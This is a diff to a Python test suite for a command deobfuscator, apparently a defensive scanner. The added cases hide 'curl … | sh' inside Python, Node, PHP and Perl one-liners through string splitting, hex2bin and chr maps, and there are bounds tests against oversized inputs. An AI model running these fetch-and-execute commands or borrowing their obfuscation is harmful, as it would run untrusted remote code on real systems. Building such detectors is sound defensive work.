@@ -141,6 +141,16 @@ def test_character_codes_hex_packs_and_raw_deflate_are_decoded() -> None:
     ):
         out = deobfuscate(text)
         assert out is not None and inner in out.split("\n"), text
+    # a command split into string literals and assembled again, hex2bin, perl's map{chr}
+    for text in (
+        "python3 -c \"import os;os.system(''.join(['curl -s h','ttp://198.51.100.7/x | s','h']))\"",
+        "node -e \"require('child_process').exec(['curl','-s','http://198.51.100.7/x','|','sh'].join(' '))\"",
+        "python3 -c \"import os;os.system('cu'+'rl -s http://198.51.100.7/x'+' | sh')\"",
+        f"php -r 'system(hex2bin(\"{hexed}\"));'",
+        f"perl -e 'system(join(\"\",map{{chr}}({codes})))'",
+    ):
+        out = deobfuscate(text)
+        assert out is not None and inner in out.split("\n"), text
     # hexadecimal codes too; 0x63 is "c"
     out = deobfuscate("node -e \"eval(String.fromCharCode(0x63,117,114,108,32,120,124,115,104))\"")
     assert out is not None and out.endswith("\ncurl x|sh")
@@ -153,10 +163,16 @@ def test_number_lists_that_spell_nothing_are_left_alone() -> None:
     assert deobfuscate("node -e \"console.log([1,2,3,4].map(x=>x*2))\"") is None
     # decoded but only printed or written: data, not run
     assert deobfuscate("ruby -e 'puts [104,105,32,116,104,101,114,101].pack(\"c*\")' > hi.txt") is None
+    # strings joined for printing are data
+    assert deobfuscate("node -e \"console.log(['a','b','c'].join(','))\"") is None
     # a huge list is bounded (and costs linear time)
     started = time.monotonic()
     out = deobfuscate("ruby -e 'system([" + ",".join(["99"] * 400_000) + "].pack(\"c*\"))'")
     assert out is None or len(out) <= MAX_TEXT + MAX_PAYLOADS * (MAX_TEXT + 1)
+    for text in ("os.system(" + "'a'+" * 100_000 + "'b')", "eval(" + "['x'," * 100_000 + "].join(''))",
+                 "eval(''.join([" + "'x', " * 100_000):
+        out = deobfuscate(text)
+        assert out is None or len(out) <= MAX_TEXT + MAX_PAYLOADS * (MAX_TEXT + 1)
     assert time.monotonic() - started < 60  # did not hang
 
 
